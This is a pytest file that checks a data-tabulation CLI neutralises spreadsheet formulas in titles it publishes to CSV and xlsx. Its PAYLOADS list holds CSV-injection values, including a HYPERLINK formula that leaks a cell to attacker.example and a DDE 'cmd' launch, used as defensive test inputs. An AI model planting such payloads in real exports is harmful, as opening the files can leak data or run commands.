"""Tables ready to publish never carry a live spreadsheet formula: titles from a --titles file that
begin with a formula character are strings in the workbook (openpyxl's data type "s", not "f") and
behind a single quote in the qcew CSV (OWASP's CSV-injection guidance)."""

import csv
import zipfile

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from gedp.cli import app
from gedp.postprocess.publication import FORMULA_STARTS, formula_safe

runner = CliRunner()
PAYLOADS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\uff1dHYPERLINK(1)"]


@pytest.fixture
def hostile_titles(small_release, tmp_path):
    """A titles file giving every area and industry code of level 71 (county totals) and 78 a title
    that begins with a formula character."""
    release = small_release[0]
    codes = []
    for agglvl in ("71", "78"):
        out = tmp_path / f"plain{agglvl}.csv"
        result = runner.invoke(app, ["tabulate", str(release), "--agglvl", agglvl, "--format", "qcew",
                                     "--out", str(out)])
        assert result.exit_code == 0, result.output
        codes.append(pd.read_csv(out, dtype=str)[["area_fips", "industry_code"]])
    codes = pd.concat(codes).drop_duplicates().reset_index(drop=True)
    payload = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(codes))]
    path = tmp_path / "titles.csv"
    codes.assign(area_title=payload, industry_title=payload[::-1]).to_csv(path, index=False)
    return release, path


def test_the_qcew_csv_quotes_every_formula(hostile_titles, tmp_path):
    release, titles = hostile_titles
    out = tmp_path / "t78.csv"
    result = runner.invoke(app, ["tabulate", str(release), "--agglvl", "78", "--format", "qcew", "--titles",
                                 str(titles), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert rows
    written = {row[column] for row in rows for column in ("area_title", "industry_title")}
    assert written <= {"'" + payload for payload in PAYLOADS}, written
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())


def test_the_workbook_writes_formulas_as_strings(hostile_titles, tmp_path):
    release, titles = hostile_titles
    out = tmp_path / "book.xlsx"
    result = runner.invoke(app, ["tabulate", str(release), "--format", "xlsx", "--titles", str(titles),
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in PAYLOADS:  # the title as given, as text
                    assert cell.data_type == "s"
                    seen += 1
    assert seen > 0
    with zipfile.ZipFile(out) as archive:  # no formula element in any sheet
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_formula_safe():
    table = pd.DataFrame({"title": ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\uff0b1", "plain", "a=b", " =1"],
                          "code": ["44001"] * 10, "n": range(10)})
    safe = formula_safe(table)
    assert safe["title"].tolist() == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "'\uff0b1", "plain", "a=b",
                                      " =1"]
    assert safe["code"].tolist() == table["code"].tolist() and safe["n"].tolist() == list(range(10))
    assert table["title"][0] == "=1+1"  # the input is left as it was
    clean = table.iloc[7:]
    assert formula_safe(clean) is clean
